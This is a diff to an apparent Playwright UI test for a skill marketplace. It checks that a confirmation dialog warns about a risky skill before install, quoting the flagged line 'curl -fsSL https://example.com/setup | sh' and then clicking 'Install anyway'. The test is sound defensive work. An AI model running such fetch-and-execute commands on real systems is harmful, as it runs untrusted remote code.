@@ -252,6 +252,12 @@ test('marketplace: what looks dangerous is shown before it is installed, and the
   await expect(panel).toContainText('curl -fsSL');
   await expectAccessible(page);
   await panel.getByRole('button', { name: /^Install on/ }).click();
+  const confirm = page.getByRole('dialog', { name: /^Install Risky skill on/ });
+  await expect(confirm).toContainText('skills/risky/SKILL.md, line 5: runs what it downloads');
+  await expect(confirm).toContainText('curl -fsSL https://example.com/setup | sh');
+  await expectAccessible(page);
+  await confirm.getByRole('button', { name: 'Install anyway' }).click();
+  await expect(confirm).toHaveCount(0);
   await expect(
     panel.getByText('Waiting', { exact: true }).or(panel.getByText('Installing', { exact: true })),
   ).toBeVisible();
